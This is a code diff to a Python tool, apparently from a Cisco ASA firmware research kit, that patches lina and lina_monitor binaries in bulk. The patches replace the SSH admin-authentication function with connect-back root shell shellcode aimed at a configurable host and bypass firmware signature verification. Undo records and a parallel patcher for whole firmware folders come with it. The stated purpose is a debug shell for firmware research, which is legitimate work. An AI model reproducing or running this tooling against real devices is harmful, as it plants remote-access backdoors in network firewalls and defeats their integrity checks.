@@ -33,7 +33,14 @@ import pickle, argparse, os, json
 import platform
 import subprocess
 import pprint
+import fcntl
+import mmap
+import shutil
+import multiprocessing
 from helper import *
+from tracelog import stage
+import hunt
+import fingerprint
 
 def logmsg(s):
     if type(s) == str:
@@ -41,6 +48,11 @@ def logmsg(s):
     else:
         print(s)
 
+# Raised when a patch can't be applied to a target. We don't sys.exit() from
+# the patching code as it also runs in pool workers (see patch_all())
+class PatchError(Exception):
+    pass
+
 # Spawns a Linux root shell (connect back)
 # To format in vim visual select hex strings and run :
 # '<,'>s/\(\(\\x..\)\{16\}\)/"\1"\r/g
@@ -108,6 +120,61 @@ b"\x69\x6e\x89\xe3\x52\x57\x53\x8d\x0c\x24\xb8\x0b\x00\x00\x00\xcd"
 b"\x80\x31\xdb\xb8\x01\x00\x00\x00\xcd\x80\x41\x5f\x41\x5e\x41\x5d"
 b"\x41\x5c\x5b\x5d\x48\xc7\xc0\x01\x00\x00\x00\xc3")
 
+# Patches applied to lina and lina_monitor. They are described as data so the
+# same engine (patch_target()) applies them to one firmware or to a whole
+# linabins folder in parallel (patch_all()). Each patch has:
+# - name:     used in logs and to select patches with --patch
+# - file:     "lina" or "lina_monitor"
+# - fw:       optional prefix of the firmware names the patch applies to
+# - at:       (key, symbol) giving the patch offset in the target db entry
+# - template: replacement bytes per arch, in which the "fixups" patterns are
+#             replaced with the right values (see LinuxReverseShell)
+# - max_len:  sanity check on the size of the template
+# - expected: with a template, the bytes per arch one of which must be at the
+#             patch offset (e.g. the function prologue) before it is written
+# - variants: or instead of a template, a list of (expected bytes, replacement
+#             bytes, offset of the replacement). The first variant whose
+#             expected bytes are found at the patch offset is applied
+PATCHES = [
+    {
+        # see patch_lina_signature_check()
+        "name":     "sign_check",
+        "file":     "lina_monitor",
+        "fw":       "asav",
+        "at":       ("lm_addresses", "jz_after_code_sign_verify_signature_image"),
+        "variants": [
+            # jz short -> jmp short
+            (b"\x74", b"\xeb", 0),
+            # jnz near -> jz near
+            (b"\x0f\x85", b"\x84", 1),
+        ],
+    },
+    {
+        # see inject_debug_shell()
+        "name":     "debug_shell",
+        "file":     "lina",
+        "at":       ("addresses", "aaa_admin_authenticate"),
+        "template": {32: sc_debug_shell_32, 64: sc_debug_shell_64},
+        "fixups":   [
+            {"type": "reljmp", "pattern": b"\x77\x77\x77\x77",
+             "symbols": ["start_loopback_proxy", "socks_proxy_server_start"]},
+            {"type": "ipv4", "pattern": b"\xaa\xbb\xcc\xdd"},
+            {"type": "port", "pattern": b"\x88\x88"},
+        ],
+        # on asa924-k8.bin, aaa_admin_authenticate is 2593 bytes so we have
+        # plenty of room
+        "max_len":  1000,
+        # push ebp; mov ebp, esp / push rbp; mov rbp, rsp
+        "expected": {32: [b"\x55\x89\xe5"], 64: [b"\x55\x48\x89\xe5"]},
+    },
+]
+
+def get_patch_spec(name):
+    for spec in PATCHES:
+        if spec["name"] == name:
+            return spec
+    raise PatchError("Unknown patch: %s" % name)
+
 # Builds a Linux reverse shell payload based on some parameters
 # like information for a target and a host/port to connect to
 class LinuxReverseShell(object):
@@ -117,7 +184,10 @@ class LinuxReverseShell(object):
         self._target            = c["target"]
         self._missingSymbols    = []
         self._shellcode         = None
+        self._template          = None
         self._scratch_off       = scratch_off
+        # offset in the file of the values binfs/asafw_cb.sh can change at boot
+        self.fixups             = {}
 
     def replaceSymbol(self, pattern, symbolname, mask=0xffffffffffffffff):
         if len(pattern) == 4:
@@ -125,16 +195,14 @@ class LinuxReverseShell(object):
         elif len(pattern) == 8:
             fmt = "<Q"
         else:
-            logmsg("[x] Unsupported pattern length yet")
-            sys.exit()
+            raise PatchError("Unsupported pattern length yet: %d" % len(pattern))
         if type(symbolname) == list:
             bFound = False
             for s in symbolname:
                 try:
                     addr = self._target['addresses'][s] & mask
                     jmp_offset = self._get_relative_jmp_offset(addr, pattern)
-                    self._shellcode = self._shellcode.replace(pattern,
-                            struct.pack(fmt, jmp_offset))
+                    self._replace(pattern, struct.pack(fmt, jmp_offset))
                 except KeyError:
                     continue
                 else:
@@ -146,58 +214,204 @@ class LinuxReverseShell(object):
             try:
                 addr = self._target['addresses'][symbolname] & mask
                 jmp_offset = self._get_relative_jmp_offset(addr, pattern)
-                self._shellcode = self._shellcode.replace(pattern, 
-                        struct.pack(fmt, jmp_offset))
+                self._replace(pattern, struct.pack(fmt, jmp_offset))
             except KeyError:
                 self._missingSymbols.append(symbolname)
 
     def _get_relative_jmp_offset(self, target_addr, pattern, mask=0xffffffffffffffff):
-        jmp_next_ins_addr = (self._scratch_off & mask) + self._shellcode.find(pattern) + len(pattern)
+        jmp_next_ins_addr = (self._scratch_off & mask) + self._find(pattern) + len(pattern)
         jmp_offset = target_addr - jmp_next_ins_addr
         if jmp_offset < 0:
             jmp_offset = (1<<32) + jmp_offset
         return jmp_offset
 
-    def buildShellcode(self):
-        if self._target["arch"] == 64:
-            self._shellcode = sc_debug_shell_64
-        else:
-            self._shellcode = sc_debug_shell_32
-        self.replaceSymbol(b'\x77\x77\x77\x77',
-            ['start_loopback_proxy', 'socks_proxy_server_start'])
-        # XXX clean this 
-        self._shellcode = self._shellcode.replace(b'\xaa\xbb\xcc\xdd', 
-                socket.inet_aton(self._revHost)).replace(b'\x88\x88', 
-                    struct.pack(">H", self._revPort))
+    # The placeholders are looked up in the template and not in the shellcode
+    # being built, as the values already substituted (e.g. a jump displacement)
+    # may contain the bytes of another placeholder
+    def _find(self, pattern):
+        off = self._template.find(pattern)
+        if off == -1:
+            raise PatchError("Pattern %s not found in the template" % binascii.hexlify(pattern).decode())
+        return off
+
+    def _replace(self, pattern, value):
+        off = self._find(pattern)
+        self._shellcode = self._shellcode[:off] + value + self._shellcode[off+len(value):]
+
+    def buildShellcode(self, spec=None):
+        if spec == None:
+            spec = get_patch_spec("debug_shell")
+        self._template = spec["template"][self._target["arch"]]
+        self._shellcode = self._template
+        for fixup in spec["fixups"]:
+            if fixup["type"] == "reljmp":
+                self.replaceSymbol(fixup["pattern"], fixup["symbols"])
+            elif fixup["type"] == "ipv4":
+                self.fixups["ipv4"] = self._scratch_off + self._find(fixup["pattern"])
+                self._replace(fixup["pattern"], socket.inet_aton(self._revHost))
+            elif fixup["type"] == "port":
+                self.fixups["port"] = self._scratch_off + self._find(fixup["pattern"])
+                self._replace(fixup["pattern"], struct.pack(">H", self._revPort))
+            else:
+                raise PatchError("Unsupported fixup type: %s" % fixup["type"])
         if len(self._missingSymbols) == 0:
             return True
         else:
             return False
 
-# Inject a debug shell into "lina" by patching the aaa_admin_authenticate()
-# function. It allows triggering it when connecting over SSH
-def inject_debug_shell(config, indata, scratch_off):
-    logmsg("Installing debug shell at 0x%x" % scratch_off)
-    c = config
-    rev = LinuxReverseShell(c, scratch_off)
-    if rev.buildShellcode() != True:
-        logmsg("Target not completely supported yet. Missing symbols:")
-        logmsg(rev._missingSymbols)
-        sys.exit(1)
+# ioctl to share the extents of a file on btrfs/xfs (cp --reflink)
+FICLONE = 0x40049409
 
-    # on asa924-k8.bin, aaa_admin_authenticate is 2593 bytes so we have plenty
-    # of room
-    patched_func_len = len(rev._shellcode)
-    if patched_func_len > 1000:
-        logmsg("Error: Looks like shellcode is quite big, something wrong?")
-        sys.exit(1)
+# Copy a file, sharing its blocks with the original if the filesystem supports
+# it. Otherwise the copy is done by the kernel without going through userland
+def clone_file(src, dst):
+    with open(src, 'rb') as fin, open(dst, 'wb') as fout:
+        try:
+            fcntl.ioctl(fout.fileno(), FICLONE, fin.fileno())
+            return
+        except OSError:
+            pass
+    shutil.copyfile(src, dst)
+
+# Patch a binary through mmap so the cost depends on the size of the patches and
+# not on the size of lina (100+ MB for 64-bit). If the output is the same file
+# as the input (how unpack_repack_bin.sh calls us), the file is patched in place,
+# otherwise the input is first cloned to the output.
+#
+# The original bytes of each patch are recorded so the patches can be reverted
+# later (see save_undo() and revert_undo())
+class FilePatcher(object):
+    def __init__(self, path_in, path_out=None):
+        if path_out == None:
+            path_out = path_in
+        if not os.path.exists(path_out) or not os.path.samefile(path_in, path_out):
+            clone_file(path_in, path_out)
+        self.path       = path_out
+        self.records    = []
+        self.fixups     = {}
+        self._f         = open(path_out, 'r+b')
+        self.data       = mmap.mmap(self._f.fileno(), 0)
 
-    lina_data = indata[:scratch_off] + rev._shellcode \
-               + indata[scratch_off+patched_func_len:]
-    logmsg("Patched lina offset: 0x%x with len = %d bytes (DEBUG SHELL)" % 
-            (scratch_off, patched_func_len))
+    def __enter__(self):
+        return self
 
-    return (lina_data, scratch_off+patched_func_len)
+    def __exit__(self, exc_type, exc, tb):
+        self.close()
+        return False
+
+    def __len__(self):
+        return len(self.data)
+
+    def read(self, off, size):
+        return self.data[off:off+size]
+
+    def write(self, off, patch):
+        if off < 0 or off + len(patch) > len(self.data):
+            raise PatchError("Patch at 0x%x (%d bytes) is outside of %s" % (off, len(patch), self.path))
+        self.records.append({
+            "offset":   off,
+            "original": binascii.hexlify(self.data[off:off+len(patch)]).decode(),
+            "patched":  binascii.hexlify(patch).decode(),
+        })
+        self.data[off:off+len(patch)] = patch
+
+    def close(self):
+        if self.data != None:
+            self.data.flush()
+            self.data.close()
+            self._f.close()
+            self.data = None
+
+# Save the original bytes of all patches applied by the given patchers
+def save_undo(undo_file, patchers):
+    undo = {}
+    for p in patchers:
+        undo[os.path.abspath(p.path)] = p.records
+    open(undo_file, 'w').write(json.dumps(undo, indent=4))
+    logmsg("Undo record: %s" % undo_file)
+
+# Restore the original bytes from an undo record. We check the patched bytes
+# are still there first so we don't corrupt a file that changed since
+def revert_undo(undo_file):
+    undo = json.loads(open(undo_file, 'r').read())
+    for path, records in undo.items():
+        with FilePatcher(path) as p:
+            for r in records:
+                patched = binascii.unhexlify(r["patched"])
+                if p.read(r["offset"], len(patched)) != patched:
+                    logmsg("Error: %s does not contain the expected patch at 0x%x" % (path, r["offset"]))
+                    sys.exit(1)
+            for r in reversed(records):
+                p.data[r["offset"]:r["offset"]+len(r["patched"])//2] = binascii.unhexlify(r["original"])
+        logmsg("Reverted %d patches in %s" % (len(records), path))
+
+# Save where the debug shell callback IP and port are in lina so they can be
+# changed at boot by binfs/asafw_cb.sh. The file is sourced by the script
+def save_callback_config(config_file, config, patchers, lina_path="/asa/bin/lina"):
+    for p in patchers:
+        if "ipv4" in p.fixups and "port" in p.fixups:
+            break
+    else:
+        raise PatchError("No debug shell callback to save in %s" % config_file)
+    with open(config_file, "w") as f:
+        f.write("# Generated by lina.py, read by asafw_cb.sh\n")
+        f.write("CB_LINA=%s\n" % lina_path)
+        f.write("CB_IP_OFFSET=%d\n" % p.fixups["ipv4"])
+        f.write("CB_PORT_OFFSET=%d\n" % p.fixups["port"])
+        f.write("CB_HOST=%s\n" % config["revHost"])
+        f.write("CB_PORT=%d\n" % config["revPort"])
+    logmsg("Callback config: %s (ip at 0x%x, port at 0x%x)" % (config_file, p.fixups["ipv4"], p.fixups["port"]))
+
+def patch_offset(spec, target):
+    key, symbol = spec["at"]
+    try:
+        return target[key][symbol]
+    except KeyError:
+        raise PatchError("can't find %s, you need to add symbol with hunt.py or asadbg first" % symbol)
+
+# Apply one patch described in PATCHES. The bytes at the patch offset are
+# checked before anything is written. Returns the offset after the patch
+def apply_patch(spec, config, patcher, scratch_off=None):
+    if scratch_off == None:
+        scratch_off = patch_offset(spec, config["target"])
+    if "template" in spec:
+        rev = LinuxReverseShell(config, scratch_off)
+        if rev.buildShellcode(spec) != True:
+            raise PatchError("Target not completely supported yet. Missing symbols: %s" % rev._missingSymbols)
+        patch = rev._shellcode
+        if len(patch) > spec["max_len"]:
+            raise PatchError("Looks like %s is quite big, something wrong?" % spec["name"])
+        patcher.fixups.update(rev.fixups)
+        if patcher.read(scratch_off, len(patch)) == patch:
+            logmsg("%s offset: 0x%x already patched (%s)" % (spec["file"], scratch_off, spec["name"]))
+            return scratch_off+len(patch)
+        expected = spec["expected"][config["target"]["arch"]]
+        if not any(patcher.read(scratch_off, len(e)) == e for e in expected):
+            raise PatchError("Unexpected bytes at 0x%x in %s (%s). Found: %s" % (scratch_off,
+                    patcher.path, spec["name"], binascii.hexlify(patcher.read(scratch_off, 4)).decode()))
+        patcher.write(scratch_off, patch)
+        logmsg("Patched %s offset: 0x%x with len = %d bytes (%s)" %
+                (spec["file"], scratch_off, len(patch), spec["name"]))
+        return scratch_off+len(patch)
+
+    for expected, patch, delta in spec["variants"]:
+        if patcher.read(scratch_off, len(expected)) == expected:
+            patcher.write(scratch_off+delta, patch)
+            logmsg("Patched %s offset: 0x%x with len = %d bytes (%s)" %
+                    (spec["file"], scratch_off+delta, len(patch), spec["name"]))
+            return scratch_off+delta+len(patch)
+    for expected, patch, delta in spec["variants"]:
+        if patcher.read(scratch_off, delta+len(patch)) == expected[:delta] + patch:
+            logmsg("%s offset: 0x%x already patched (%s)" % (spec["file"], scratch_off+delta, spec["name"]))
+            return scratch_off+delta+len(patch)
+    raise PatchError("Opcode not supported at 0x%x in %s (%s). Found: %s" % (scratch_off,
+            patcher.path, spec["name"], binascii.hexlify(patcher.read(scratch_off, 4)).decode()))
+
+# Inject a debug shell into "lina" by patching the aaa_admin_authenticate()
+# function. It allows triggering it when connecting over SSH
+def inject_debug_shell(config, patcher, scratch_off):
+    logmsg("Installing debug shell at 0x%x" % scratch_off)
+    return apply_patch(get_patch_spec("debug_shell"), config, patcher, scratch_off)
 
 # Patch jump for lina's signature check in lina_monitor
 # e.g. asav962-7
@@ -219,22 +433,102 @@ def inject_debug_shell(config, indata, scratch_off):
 # by
 # jz      loc_3D06  ("0F 84 33 0B+ " seems strange!!!)
 # Note: can't replace jnz by jmp in this case, for the branch loc_3D06 is the "error" branch
-def patch_lina_signature_check(config, indata, scratch_off):
+def patch_lina_signature_check(config, patcher, scratch_off):
     logmsg("Patching lina signature check at 0x%x" % scratch_off)
-    c = config
-    if indata[scratch_off:scratch_off+1] == b"\x74":
-        outdata = indata[:scratch_off] + b"\xeb" \
-               + indata[scratch_off+1:]
-    elif indata[scratch_off:scratch_off+2] == b"\x0f\x85":
-        outdata = indata[:scratch_off+1] + b"\x84" \
-                + indata[scratch_off+2:]
-    else:
-        logmsg("Error: Opcode not supported. We only support jz for now: Found: 0x%x" % ord(indata[scratch_off:scratch_off+1]))
-        sys.exit(1)
-    logmsg("Patched lina_monitor offset: 0x%x with len = 1 bytes (SIGN CHECK)" % 
-            (scratch_off))
+    apply_patch(get_patch_spec("sign_check"), config, patcher, scratch_off)
+
+# Apply all the patches (or only the ones in names) relevant to a target.
+# files maps "lina"/"lina_monitor" to (input path, output path). All patch
+# offsets are resolved before touching any file. Returns the FilePatcher used
+def patch_target(config, files, names=None):
+    target = config["target"]
+    specs = []
+    for spec in PATCHES:
+        if names and spec["name"] not in names:
+            continue
+        if "fw" in spec and not target["fw"].startswith(spec["fw"]):
+            continue
+        if files.get(spec["file"], (None, None))[0] == None:
+            raise PatchError("No %s file to apply %s to" % (spec["file"], spec["name"]))
+        patch_offset(spec, target)
+        specs.append(spec)
+    if "lina" in [spec["file"] for spec in specs] and target["lina_imagebase"] == 0:
+        # we need a valid imagebase so the offset in the ELF is right
+        raise PatchError("Looks like aaa_admin_authenticate will be wrong")
+
+    patchers = []
+    for f in ["lina_monitor", "lina"]:
+        file_specs = [spec for spec in specs if spec["file"] == f]
+        if len(file_specs) == 0:
+            continue
+        path_in, path_out = files[f]
+        with stage("lina.patch_%s" % f, inputs=[path_in], outputs=[path_out]):
+            logmsg("Input %s file: %s" % (f, path_in))
+            with FilePatcher(path_in, path_out) as patcher:
+                logmsg("Size of unpatched %s: %d bytes" % (f, len(patcher)))
+                for spec in file_specs:
+                    apply_patch(spec, config, patcher)
+            patchers.append(patcher)
+            logmsg("Output %s file: %s" % (f, path_out))
+    return patchers
 
-    return outdata
+def _patch_job(job):
+    config, files, names = job
+    fw = config["target"]["fw"]
+    os.environ["ASAFW_TRACE_FW"] = fw
+    try:
+        patch_target(config, files, names)
+    except (PatchError, OSError) as e:
+        return (fw, str(e))
+    except Exception as e:
+        # one broken firmware must not stop the whole pool
+        return (fw, "%s: %s" % (type(e).__name__, e))
+    return (fw, None)
+
+# Patch all firmware from a linabins folder (<dir>/<bin name>/lina, as created
+# by unpack_repack_bin.sh --linabins or linabins.sh) on a process pool. Files
+# are patched in place unless out_dir is given. Returns the number of failures
+def patch_all(config, targets, linabins_dir, out_dir=None, names=None, jobs=None):
+    work = []
+    failed = 0
+    for bin_name in sorted(os.listdir(linabins_dir)):
+        if not os.path.isfile(os.path.join(linabins_dir, bin_name, "lina")):
+            continue
+        index = get_target_index(targets, bin_name)
+        if index == None:
+            logmsg("[x] %s: Failed to get target index matching bin name" % bin_name)
+            failed += 1
+            continue
+        c = dict(config)
+        c["target"] = targets[index]
+        files = {}
+        for f in ["lina", "lina_monitor"]:
+            path_in = os.path.join(linabins_dir, bin_name, f)
+            if not os.path.isfile(path_in):
+                continue
+            path_out = path_in
+            if out_dir != None:
+                os.makedirs(os.path.join(out_dir, bin_name), exist_ok=True)
+                path_out = os.path.join(out_dir, bin_name, f)
+            files[f] = (path_in, path_out)
+        work.append((c, files, names))
+
+    logmsg("Patching %d firmware with %d workers" % (len(work), jobs or os.cpu_count()))
+    pool = multiprocessing.Pool(jobs)
+    try:
+        results = pool.map(_patch_job, work, chunksize=1)
+    finally:
+        pool.close()
+        pool.join()
+    patched = 0
+    for fw, error in results:
+        if error != None:
+            logmsg("[x] %s: %s" % (fw, error))
+            failed += 1
+        else:
+            patched += 1
+    logmsg("Patched %d/%d firmware" % (patched, len(work)))
+    return failed
 
 def main():
     parser = argparse.ArgumentParser()
@@ -250,6 +544,8 @@ def main():
                         help="Input lina_monitor file (only in ASAv 64-bit)")
     parser.add_argument('-b', dest='bin_name', default=None, \
                         help="Input bin name")
+    parser.add_argument('-I', dest='image', default=None, \
+                        help="Firmware image to identify the target from its content if the bin name is not in the db (see fingerprint.py)")
     parser.add_argument('-o', dest='lina_file_out', default=None, \
                         help="Output lina file")
     parser.add_argument('--libc-input', dest='libc_input', default=None, \
@@ -262,11 +558,43 @@ def main():
             action="store_true", help="Display more info")
     parser.add_argument('-d', dest='target_file', default=None, 
                         help='JSON db name')
+    parser.add_argument('--hunt', dest='hunt', default=False, action="store_true",
+                        help="Find missing symbols with hunt.py and save them in the db")
+    parser.add_argument('-U', '--undo-file', dest='undo_file', default=None,
+                        help="Save the original bytes of all patches to this file")
+    parser.add_argument('--revert', dest='revert_file', default=None,
+                        help="Revert the patches saved in an undo file and exit")
+    parser.add_argument('-r', dest='linabins_dir', default=None,
+                        help="Patch all firmware in a linabins folder (<dir>/<bin name>/lina)")
+    parser.add_argument('-j', dest='jobs', type=int, default=None,
+                        help="Number of workers with -r (default: number of CPUs)")
+    parser.add_argument('--out-dir', dest='out_dir', default=None,
+                        help="Output folder with -r (default: patch in place)")
+    parser.add_argument('--patch', dest='patch_names', default=None, action="append",
+                        help="Only apply this patch (%s). Can be used multiple times" %
+                        ", ".join(spec["name"] for spec in PATCHES))
+    parser.add_argument('--callback-config', dest='callback_config', default=None,
+                        help="Save the offsets of the debug shell IP/port to this file for asafw_cb.sh")
     args = parser.parse_args()
 
+    if args.revert_file != None:
+        revert_undo(args.revert_file)
+        sys.exit()
+
     if args.target_file == None:
         logmsg("You need to specify a JSON database filename with -d")
         sys.exit(1)
+
+    if args.linabins_dir != None:
+        c = {}
+        c["revPort"]        = int(args.cbport)
+        c["revHost"]        = args.cbhost
+        c["target_file"]    = args.target_file
+        with stage("lina.load_targets", inputs=[c["target_file"]]):
+            targets = load_targets(c["target_file"])
+        if patch_all(c, targets, args.linabins_dir, args.out_dir, args.patch_names, args.jobs) != 0:
+            sys.exit(1)
+        sys.exit()
     if args.lina_file == None:
         logmsg("You need to specify an input lina file with -f")
         sys.exit(1)
@@ -282,11 +610,14 @@ def main():
     c["lina_in"]        = args.lina_file
     c["lina_out"]       = args.lina_file_out
 
-    targets = load_targets(c["target_file"])
+    with stage("lina.load_targets", inputs=[c["target_file"]]):
+        targets = load_targets(c["target_file"])
     target_index = args.target_index
     if target_index == None:
         if args.bin_name != None:
             bin_name = args.bin_name
+        elif args.image != None:
+            bin_name = os.path.basename(args.image)
         else:
             logmsg("WARN: No index or firmware name specified. Will guess based on lina path...")
             bin_name = build_bin_name(args.lina_file)
@@ -294,6 +625,10 @@ def main():
                 logmsg("[x] Failed to guess target")
                 sys.exit(1)
         target_index = get_target_index(targets, bin_name)
+        if target_index == None and args.image != None:
+            target_index = fingerprint.lookup(targets, args.image, bin_name)
+            if target_index != None:
+                bin_name = targets[target_index]["fw"]
         if target_index == None:
             logmsg("[x] Failed to get target index matching bin name")
             sys.exit(1)
@@ -303,8 +638,20 @@ def main():
         logmsg("Error: Bad target index")
         sys.exit(1)
     c["target"]   = targets[index]
+
+    if args.hunt:
+        lina_monitor = None
+        if c["target"]["fw"].startswith("asav"):
+            lina_monitor = args.lina_monitor_file
+        cache_file = hunt.default_cache(c["target_file"])
+        cache = hunt.load_cache(cache_file)
+        with stage("lina.hunt", inputs=[args.lina_file]):
+            hunt.hunt_target(c["target"], args.lina_file, lina_monitor, cache)
+        hunt.save_cache(cache_file, cache)
+        hunt.save_targets(c["target_file"], targets)
     
-    # let's patch lina_monitor (supported/required for ASAv only afaict)
+    # let's patch lina_monitor (supported/required for ASAv only afaict) and
+    # lina. Relative offsets in memory are actual offsets in the ELF files
     if c["target"]["fw"].startswith("asav"):
         if args.lina_monitor_file == None:
             logmsg("You need to specify an input lina_monitor file with -F")
@@ -312,45 +659,19 @@ def main():
         if args.lina_monitor_file_out == None:
             logmsg("You need to specify an output lina_monitor file with -O")
             sys.exit(1)
-
-        logmsg("Input lina_monitor file: %s" % args.lina_monitor_file)
-        lm_data = open(args.lina_monitor_file, 'rb').read()
-        logmsg("Size of unpatched lina_monitor: %d bytes" % len(lm_data))
-
-        # relative offset in memory is actual offset in ELF
-        try:
-            sign_check_jz_offset = c["target"]["lm_addresses"]["jz_after_code_sign_verify_signature_image"]
-        except KeyError:
-            logmsg("Error: can't find jz_after_code_sign_verify_signature_image, you need to add symbol with asadbg_rename.py/asadbg_hunt.py first")
-            sys.exit(1)
-           
-        lm_data = patch_lina_signature_check(c, lm_data, sign_check_jz_offset)
-    
-        open(args.lina_monitor_file_out, 'wb').write(lm_data)
-        logmsg("Output lina_monitor file: %s" % args.lina_monitor_file_out)
-
-    # let's patch lina (and glibc for ASAv)
-
-    # we need a valid imagebase so the offset in the ELF is right
-    if c["target"]["lina_imagebase"] == 0:
-        logmsg("Error: Looks like aaa_admin_authenticate will be wrong")
-        sys.exit(1)
-    # relative offset in memory is actual offset in ELF
+    files = {}
+    files["lina"] = (args.lina_file, args.lina_file_out)
+    files["lina_monitor"] = (args.lina_monitor_file, args.lina_monitor_file_out)
     try:
-        aaa_admin_auth_offset = c["target"]["addresses"]["aaa_admin_authenticate"]
-    except KeyError:
-        logmsg("Error: can't find aaa_admin_authenticate, you need to add symbol with asafw first")
+        patchers = patch_target(c, files, args.patch_names)
+        if args.callback_config != None:
+            save_callback_config(args.callback_config, c, patchers)
+    except PatchError as e:
+        logmsg("Error: %s" % e)
         sys.exit(1)
-    scratch_off = aaa_admin_auth_offset
-
-    logmsg("Input lina file: %s" % args.lina_file)
-    lina_data = open(args.lina_file, 'rb').read()
-    logmsg("Size of unpatched lina: %d bytes" % len(lina_data))
-
-    lina_data, scratch_off = inject_debug_shell(c, lina_data, scratch_off)
 
-    open(args.lina_file_out, 'wb').write(lina_data)
-    logmsg("Output lina file: %s" % args.lina_file_out)
+    if args.undo_file != None:
+        save_undo(args.undo_file, patchers)
 
 if __name__ == '__main__':
     main()